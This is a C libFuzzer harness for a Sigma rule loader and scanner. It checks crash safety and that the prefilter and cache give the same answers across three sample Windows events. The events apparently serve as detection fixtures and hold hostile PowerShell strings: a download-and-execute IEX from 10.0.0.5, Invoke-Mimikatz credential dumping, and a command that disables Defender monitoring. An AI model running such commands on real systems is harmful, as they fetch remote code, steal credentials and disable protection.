/* fuzz_rule.c - libFuzzer target for the Sigma rule loader (YAML to rule set).
 *
 * The input is a rule file. Loading must never crash or leak, whatever
 * the YAML, modifiers, regexes or conditions; a loaded rule set is then
 * matched against three fixed events (Sysmon 1, Security 4688, and a
 * PowerShell 4104 whose long texts go through the memo of item results,
 * match/vmemo.h) with and without the prefilter, which must agree (the
 * memo runs with the prefilter only), each event three times
 * (the second time through the scanner's cache of scan results and field
 * shapes, the third with its strings in one text), then all of them twice
 * as one batch scanned before it is matched (tn_scanner_prescan). Needs TANSA_DATA or ./data
 * for the logsource map. */
#include "match/scanner.h"
#include "sigma/sigma.h"

#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* No compiled-database cache: inputs would each leave a file behind. */
int LLVMFuzzerInitialize(int *argc, char ***argv)
{
    (void)argc, (void)argv;
    setenv("TANSA_CACHE", "off", 1);
    return 0;
}

static void ignore(void *ctx, const char *file, uint32_t line, uint32_t col, const char *why)
{
    (void)ctx, (void)file, (void)line, (void)col, (void)why;
}

/* ev with its strings in one text, allocated at its exact size, as the
 * EVTX reader's events are (tn_event.text): the scanner then copies short
 * values in 16-byte moves, and ASan sees any read past the text. f: room
 * for ev's fields. Returns the text (free it), or NULL. */
static char *packed(const tn_event *ev, tn_event *out, tn_field *f)
{
    size_t need = 0, n = 0;
    for (uint32_t i = 0; i < ev->nfields; i++)
        need += ev->fields[i].name_len + ev->fields[i].value_len + 2;
    char *t = malloc(need ? need : 1);
    if (!t)
        return NULL;
    *out = *ev;
    for (uint32_t i = 0; i < ev->nfields; i++) {
        f[i] = ev->fields[i];
        memcpy(t + n, f[i].name, f[i].name_len + 1);
        f[i].name = t + n;
        n += f[i].name_len + 1;
        memcpy(t + n, f[i].value, f[i].value_len + 1);
        f[i].value = t + n;
        n += f[i].value_len + 1;
    }
    out->fields = f;
    out->text = t;
    out->text_len = n;
    return t;
}

/* Matches of rs on each event, one bit each. Each event is matched three
 * times by the same scanner, and the answers must agree: the second time
 * heavy fields' scan results come from its cache and the field places
 * from its shapes; the third time the event's strings lie in one text. */
static unsigned matches(const tn_ruleset *rs, const tn_event *evs, size_t n)
{
    unsigned m = 0;
    int got[8] = {0};
    if (n > 8)
        abort();
    tn_scanner *sc = tn_scanner_new(rs);
    for (size_t i = 0; sc && i < n; i++) {
        int first = tn_scanner_match(sc, &evs[i], NULL, NULL);
        if (tn_scanner_match(sc, &evs[i], NULL, NULL) != first)
            abort();
        tn_event p;
        tn_field pf[16];
        char *t = evs[i].nfields <= 16 ? packed(&evs[i], &p, pf) : NULL;
        if (t && tn_scanner_match(sc, &p, NULL, NULL) != first)
            abort();
        free(t);
        m |= (unsigned)(first > 0) << i;
        got[i] = first;
    }
    /* then all of them twice as one prescanned batch, as hunt matches */
    const tn_event *batch[16];
    size_t nb = 0;
    for (size_t r = 0; r < 2; r++)
        for (size_t i = 0; i < n && nb < 16; i++)
            batch[nb++] = &evs[i];
    if (sc)
        tn_scanner_prescan(sc, batch, (uint32_t)nb);
    for (size_t k = 0; sc && k < nb; k++)
        if (tn_scanner_match(sc, batch[k], NULL, NULL) != got[(size_t)(batch[k] - evs)])
            abort();
    tn_scanner_free(sc);
    return m;
}

static void lens(tn_field *f, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        f[i].name_len = (uint32_t)strlen(f[i].name);
        f[i].value_len = (uint32_t)strlen(f[i].value);
    }
}

/* Differential: the literal prefilter (index, scan sets, literal
 * databases) must never change an answer, so each loaded rule set is
 * matched with and without it, and a difference aborts. */
int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    static tn_field f[] = {
        {"Image", "C:\\Windows\\System32\\cmd.exe", 0, 0, 0},
        {"CommandLine", "cmd /c whoami -all", 0, 0, 0},
        {"DestinationIp", "10.1.2.3", 0, 0, 0},
        {"UtcTime", "2024-01-02 03:04:05.678", 0, 0, 0},
        {"Empty", "", 0, 0, 1},
        {"Parent Image", "C:\\Windows\\explorer.exe", 0, 0, 0},
        {"Hashes", "SHA1=ABCDEF,IMPHASH=0123456789", 0, 0, 0},
    };
    static tn_field g[] = {
        {"NewProcessName", "C:\\Tools\\mimikatz.exe", 0, 0, 0},
        {"CommandLine", "mimikatz privilege::debug", 0, 0, 0},
        {"SubjectUserName", "admin", 0, 0, 0},
        {"TargetUserName", "-", 0, 0, 0},
    };
    /* long texts (the memo keeps results on 1,024 bytes and more) */
    static char script[2048], cmd[1600];
    if (!script[0]) {
        snprintf(script, sizeof(script), "%s",
                 "$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://10.0.0.5/a.ps1')); "
                 "Invoke-Mimikatz -Command 'privilege::debug sekurlsa::logonpasswords'; "
                 "[System.Convert]::FromBase64String('SQBFAFgA'); "
                 "Set-MpPreference -DisableRealtimeMonitoring $true; ");
        for (size_t n = strlen(script); n + 1 < sizeof(script); n++)
            script[n] = (char)(n % 61 == 0 ? '\n' : "abcdefghij -$(){}|"[n % 18]);
        snprintf(cmd, sizeof(cmd), "%s",
                 "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA");
        for (size_t n = strlen(cmd); n + 1 < sizeof(cmd); n++)
            cmd[n] = "JABjAD0ATgBlAHcA"[n % 16];
    }
    static tn_field h[] = {
        {"ScriptBlockText", script, 0, 0, 0},
        {"Path", "C:\\Users\\a\\x.ps1", 0, 0, 0},
        {"CommandLine", cmd, 0, 0, 0},
    };
    lens(f, sizeof(f) / sizeof(f[0]));
    lens(g, sizeof(g) / sizeof(g[0]));
    lens(h, sizeof(h) / sizeof(h[0]));
    tn_event evs[] = {
        {.provider = "P", .provider_guid = "", .channel = "Microsoft-Windows-Sysmon/Operational",
         .computer = "h", .user_sid = "", .event_id = 1, .fields = f,
         .nfields = sizeof(f) / sizeof(f[0]), .file = ""},
        {.provider = "Microsoft-Windows-Security-Auditing", .provider_guid = "", .channel = "Security",
         .computer = "dc1", .user_sid = "S-1-5-18", .event_id = 4688, .fields = g,
         .nfields = sizeof(g) / sizeof(g[0]), .file = ""},
        {.provider = "Microsoft-Windows-PowerShell", .provider_guid = "",
         .channel = "Microsoft-Windows-PowerShell/Operational", .computer = "ws1", .user_sid = "",
         .event_id = 4104, .fields = h, .nfields = sizeof(h) / sizeof(h[0]), .file = ""},
    };
    tn_rule_opts o = {.on_reject = ignore, .on_warn = ignore};
    tn_ruleset *rs, *all;
    if (tn_ruleset_load_text((const char *)data, size, "fuzz.yml", &o, NULL, &rs) != TN_RS_OK)
        return 0;
    o.no_prefilter = 1;
    if (tn_ruleset_load_text((const char *)data, size, "fuzz.yml", &o, NULL, &all) != TN_RS_OK) {
        tn_ruleset_free(rs);
        return 0;
    }
    size_t nev = sizeof(evs) / sizeof(evs[0]);
    unsigned a = matches(rs, evs, nev), b = matches(all, evs, nev);
    tn_ruleset_free(rs);
    tn_ruleset_free(all);
    if (a != b)
        abort();
    return 0;
}
